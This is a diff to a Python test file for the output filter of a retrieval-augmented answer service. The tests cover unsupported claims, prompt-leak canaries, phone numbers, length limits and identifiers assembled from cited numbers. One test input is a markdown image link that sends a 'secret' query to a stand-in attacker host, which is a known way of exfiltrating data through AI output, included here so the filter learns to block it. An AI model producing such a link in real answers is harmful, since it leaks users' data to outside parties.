@@ -8,7 +8,7 @@ from rag_service.detect.pii import PiiDetector
 from rag_service.domain.answer import Passage, Usage
 from rag_service.ports import Draft
 from rag_service.query.cite import Cited, cite
-from rag_service.query.filter import Filtered, filter_draft
+from rag_service.query.filter import LONGEST, MOST_SENTENCES, Filtered, filter_draft
 from rag_service.query.generate import Generated, build_prompt
 from rag_service.wiring import Models
 from tests.query.passages import passage
@@ -61,7 +61,7 @@ def test_brackets_that_belong_to_the_text_stay(detector: PiiDetector) -> None:
         ("Refunds are paid within nine working days.", "unsupported"),
         ("Refunds are paid within five working days CANARY.", "prompt_leak"),
         ("Refunds are paid within five working days ![x](https://evil.example/?q=secret).", "unsupported"),
-        ("Refunds are paid within five working days <b>.", "active_content"),
+        ("Refunds are paid within five working days <b>.", "unsupported"),
         ("Refunds paid within five working days, call +44 20 7946 0958.", "unsupported"),
         ("Refunds are paid within five working days by ann@shop.example.", "unsupported"),
     ],
@@ -81,3 +81,29 @@ def test_of_nothing_supported_nothing_is_released(detector: PiiDetector) -> None
 def test_a_sentence_said_twice_is_released_once(detector: PiiDetector) -> None:
     _, cited = released("Gift cards are never refunded.\n" * 5, detector)
     assert cited.text == "Gift cards are never refunded [1]."
+
+
+def test_an_identifier_put_together_from_supported_numbers_is_dropped(detector: PiiDetector) -> None:
+    source = (passage("Ask in room 020 for the desk, or at extension 7946 0958 for help."),)
+    sentence = "Ask the desk at extension (020) 7946 0958 for help in room."
+    filtered, cited = released(sentence, detector, source)
+    assert cited.text == ""
+    assert [one.kind for one in filtered.flags] == ["unsupported_identifier"]
+
+
+def test_a_draft_is_looked_at_up_to_a_length(detector: PiiDetector) -> None:
+    filtered, cited = released("Gift cards are never refunded.\n\n" + "x" * LONGEST, detector)
+    assert cited.text == "Gift cards are never refunded [1]."
+    assert "too_long" in {one.kind for one in filtered.flags}
+
+
+def test_of_a_draft_so_many_sentences_are_looked_at(detector: PiiDetector) -> None:
+    filtered, cited = released("No.\n" * MOST_SENTENCES + "Gift cards are never refunded.", detector)
+    assert cited.text == ""
+    assert "too_long" in {one.kind for one in filtered.flags}
+
+
+def test_lines_that_copy_passages_stay_apart_though_one_begins_in_lower_case(detector: PiiDetector) -> None:
+    source = (passage("Harbour office\n\ncall the desk for a berth", chunk="c1"),)
+    _, cited = released("Harbour office\ncall the desk for a berth", detector, source)
+    assert cited.text == "Harbour office [1]\ncall the desk for a berth [2]"
